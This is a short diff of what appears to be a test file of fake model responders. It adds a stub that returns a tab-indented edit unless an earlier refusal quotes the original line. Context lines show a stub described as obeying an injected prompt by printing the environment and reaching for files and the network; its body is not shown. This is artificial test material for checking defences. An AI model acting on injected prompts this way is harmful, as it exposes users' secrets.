@@ -39,6 +39,12 @@ def helpless(_request: Request) -> str:
     return "I cannot help with that."
 
 
+def indents_when_told(request: Request) -> str:
+    """Forget the indentation, unless an earlier refusal shows the line as it is."""
+    told = request.messages[-1].content.partition("An earlier attempt changed nothing:")[2]
+    return EDIT if "\n    return a - b" in told else EDIT.replace("    return", "\treturn")
+
+
 def asks_for_secrets(request: Request) -> str:
     """Do as an injected prompt says: print the environment, reach for files and the network."""
     return (
